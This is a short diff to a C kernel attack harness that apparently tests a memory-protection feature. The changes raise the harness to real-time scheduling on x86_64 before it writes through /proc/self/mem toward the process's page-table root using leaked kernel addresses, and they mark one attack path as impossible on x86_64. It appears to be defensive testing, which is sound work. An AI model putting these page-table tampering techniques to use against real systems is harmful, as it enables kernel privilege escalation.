@@ -16,6 +16,8 @@
  */
 #include "attack.h"
 
+#include <sched.h>
+
 static u64 mm_pgd(void)
 {
 	return leak.mm + lookup("mm_struct.pgd");
@@ -55,8 +57,12 @@ static void access_with_root(u64 root, void *addr, bool write)
 {
 	struct kpkeys_attack_word *word = &shared->word;
 	size_t size = sizeof(shared->text) - 1;
+	struct sched_param first = { .sched_priority = 1 };
 	int i;
 
+	/* No CPU must load what is no root: on x86, that is to map the kernel, too. */
+	if (on_arch("x86_64") && sched_setscheduler(0, SCHED_FIFO, &first))
+		die("cannot keep others from running");
 	memory_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
 	word->addr = mm_pgd();
 	for (i = 0; i < 2; i++) {
@@ -245,6 +251,8 @@ static int kernel_root(void)
 	u64 slot = own_page_slot(), real, root;
 	char *alias;
 
+	if (on_arch("x86_64"))
+		return not_possible("no process runs on the root of init_mm");
 	if (!on_arch("um"))
 		return not_possible("the CPU does not load the kernel's root from init_mm");
 	/* At the end of vmalloc()'s range, which nobody uses. */
